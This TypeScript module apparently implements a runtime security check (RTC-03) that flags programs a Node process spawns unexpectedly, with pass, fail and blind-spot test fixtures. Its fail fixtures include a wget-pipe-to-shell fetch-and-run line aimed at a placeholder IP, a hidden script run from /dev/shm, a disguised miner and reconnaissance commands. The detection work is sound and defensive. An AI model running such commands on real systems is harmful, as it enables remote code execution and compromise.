import { cannotTell, defineCheck, fail, notApplicable, type Outcome, pass } from '../../core/check.js';
import { partlySeen, seen, unseen } from '../../core/example.js';
import { defaultPolicy } from '../../core/policy.js';
import { type LayerChange, layerChanges } from '../../facts/containers.js';
import { type Call, detections } from '../../facts/detections.js';
import { exampleProcess, exampleView } from '../../facts/examples.js';
import { policy } from '../../facts/policy.js';
import { type Process, processes } from '../../facts/processes.js';
import { valueOr } from '../shared/blind-spot.js';
import { baseName, describeProcess, processSubject, programOf, programs } from '../shared/describe-process.js';
import { exampleCall, exampleDetections } from '../shared/example-detections.js';
import { foreignBecause } from '../shared/foreign-program.js';
import { isLegitCommand, isShell } from '../shared/legit-subprocess.js';
import { processBehaviours } from '../shared/process-behaviours.js';
import { isNode, nodeChildren } from '../shared/process-tree.js';

interface Around {
  readonly declared: readonly string[];
  readonly changes: readonly LayerChange[];
  readonly calls: readonly Call[];
}

/** Why the child is an intruder's, in words; null when nothing shows that (checks.md, amendment to RTC-03). */
function criticalBecause(child: Process, around: Around): string | null {
  const foreign = child.exeInMemory ? 'runs from memory' : foreignBecause(child, around.changes);
  if (foreign !== null) return foreign;
  const attack = processBehaviours(child).find((behaviour) => behaviour.weight === 'attack');
  if (attack) return attack.what;
  if (child.exePackageOwned === false && !isSiteProgram(child))
    return `runs ${programOf(child)}, which no package owns`;
  const call = around.calls.find((each) => each.command !== '' && child.args.includes(each.command));
  // The program behind `sh` may have another name: busybox.
  const isAnyShell = isShell(baseName(programOf(child))) || isShell(baseName(child.args.split(' ', 1)[0] ?? ''));
  return call && isAnyShell ? 'is a shell that evaluated code asked for' : null;
}

/** Programs that npm or the site itself installs: no package of the distribution knows them. */
function isSiteProgram(child: Process): boolean {
  return /\/node_modules\/|^\/usr\/local\/|^\/opt\/|\/\.(?:nvm|volta|fnm|asdf)\//.test(child.exe ?? '');
}

function judge(child: Process, node: Process, around: Around): Outcome | null {
  const subject = processSubject(child);
  const reason = criticalBecause(child, around);
  const started = `pid ${node.pid} (${node.args.slice(0, 40)}) started it`;
  if (reason !== null) {
    return fail([child.ref, node.ref], {
      subject,
      what: `${describeProcess(child)} ${reason}; ${started}`,
      location: `${subject}, child of pid ${node.pid}: ${programOf(child)}`,
    });
  }
  if (isLegitCommand(child.args, around.declared)) return null;
  const name = baseName(programOf(child));
  if (
    child.exePackageOwned === true &&
    !isShell(name) &&
    processBehaviours(child).every(({ weight }) => weight === 'note')
  )
    return null;
  return cannotTell('not-collected', `${describeProcess(child)} is a child of Node that nobody declared; ${started}`, {
    subject,
    evidence: [child.ref, node.ref],
    settle: `Does your app start ${name}? If so, list it under subprocesses in candor.yaml; if not, keep the evidence.`,
  });
}

/** RTC-03: what Node started. An unknown child is a question; fetch-and-run, or a program that nobody owns, is an intruder. */
export const nodeStartedForeignProgram = defineCheck({
  id: 'RTC-03',
  title: 'Node started a program that it has no reason to start',
  questions: ['Q3'],
  severity: 'critical',
  required: true,
  needs: { processes, policy },
  uses: { detections, layerChanges },
  decide: (facts) => {
    const running = programs(facts.processes.value.items);
    if (!running.some(isNode)) return notApplicable(facts.processes.evidence, 'no process of Node runs');
    const around = {
      declared: facts.policy.value.subprocesses,
      changes: valueOr(facts.layerChanges, []),
      calls: (facts.detections.status === 'known' ? facts.detections.value.calls : []).filter(
        (call) => call.origin === 'evaluated' && !call.requestEcho,
      ),
    };
    const children = nodeChildren(running);
    const found = children.map(({ child, node }) => judge(child, node, around)).filter((outcome) => outcome !== null);
    if (found.length > 0) return found;
    if (running.some((process) => process.ppid === null)) {
      return cannotTell('not-collected', 'the process listing does not say who started whom', {
        settle: 'ps -eo pid,ppid,user,lstart,pcpu,rss,args',
        evidence: facts.processes.evidence,
      });
    }
    return pass(facts.processes.evidence, { what: `${children.length} children of Node, all ordinary for this stack` });
  },
  whyItMatters:
    'A web app that was taken over shows itself by what it starts: a shell, a download, a program nobody installed.',
  verifyByHand: 'ps -eo pid,ppid,user,lstart,pcpu,args --forest',
  remediation: {
    text: 'If the app itself starts the program, declare it. If not, keep the process and cut the container off.',
    commands: ['docker pause CONTAINER', 'sudo cp /proc/PID/exe ./evidence-PID && sha256sum ./evidence-PID'],
  },
  references: ['ATT&CK T1059', 'ATT&CK T1190'],
  examples: {
    pass: [
      { title: 'Node alone', facts: { processes: seen(exampleView([exampleProcess()])), policy: seen(defaultPolicy) } },
      {
        title: 'a program of a package',
        facts: withChild({ args: 'pdftotext in.pdf out.txt', exe: '/usr/bin/pdftotext' }),
      },
      {
        title: 'a declared program',
        facts: {
          ...withChild({ args: 'sox a.wav b.wav', exe: '/usr/bin/sox', exePackageOwned: null }),
          policy: seen({ ...defaultPolicy, subprocesses: ['sox'] }),
        },
      },
      {
        title: 'no Node here',
        facts: {
          processes: seen(exampleView([exampleProcess({ exe: '/usr/sbin/nginx', args: 'nginx' })])),
          policy: seen(defaultPolicy),
        },
        expect: 'not-applicable',
      },
      ...[
        'ffmpeg -i /media/show.wav -b:a 192k /media/show.mp3',
        'ffprobe -v quiet -print_format json -show_format /media/show.mp3',
        'git config --local --get remote.origin.url',
        'psql -h db -c SELECT',
        'bash /app/scripts/sh/archive/rsync_pull.sh 2025-12-01',
        'npx tsx scripts/cron/tidy.ts',
      ].map((args) => ({ title: args, facts: withChild({ args, exe: null, exePackageOwned: null }) })),
    ],
    fail: [
      {
        title: 'fetch and run',
        facts: withChild({
          args: 'sh -c wget -qO- http://203.0.113.9/a | sh',
          argv: ['sh', '-c', 'wget -qO- http://203.0.113.9/a | sh'],
        }),
      },
      {
        title: 'a program that no package owns',
        facts: withChild({ args: './run', exe: '/app/run', exePackageOwned: false }),
      },
      {
        title: 'a miner under a random name',
        facts: withChild({ args: '/AfUxImqu -c /jnEe -B', exe: null, exePackageOwned: null }),
      },
      {
        title: 'a shell from evaluated code',
        facts: {
          ...withChild({ args: 'sh -c id; uname -a', argv: ['sh', '-c', 'id; uname -a'] }),
          detections: seen(exampleDetections({ calls: [exampleCall('id; uname -a', { origin: 'evaluated' })] })),
        },
      },
      {
        title: 'a script that evaluated code started, where busybox is the shell',
        facts: {
          ...withChild({ args: 'sh /dev/shm/.x', argv: ['sh', '/dev/shm/.x'], exe: '/bin/busybox' }),
          detections: seen(exampleDetections({ calls: [exampleCall('sh /dev/shm/.x', { origin: 'evaluated' })] })),
        },
      },
    ],
    blind: [
      { title: 'no process list', facts: { processes: unseen(), policy: seen(defaultPolicy) } },
      {
        title: 'a part of the processes',
        facts: { processes: partlySeen(exampleView([exampleProcess()])), policy: seen(defaultPolicy) },
      },
      {
        title: 'a listing without parents',
        facts: { processes: seen(exampleView([exampleProcess({ ppid: null })])), policy: seen(defaultPolicy) },
      },
      {
        title: 'a child that nobody declared',
        facts: withChild({ args: 'sox a.wav b.wav', exePackageOwned: null, exe: null }),
      },
    ],
  },
});

function withChild(change: Partial<Process>) {
  const child = exampleProcess({ pid: 4300, ppid: 4200, exe: '/bin/sh', ...change });
  return { processes: seen(exampleView([exampleProcess(), child])), policy: seen(defaultPolicy) };
}
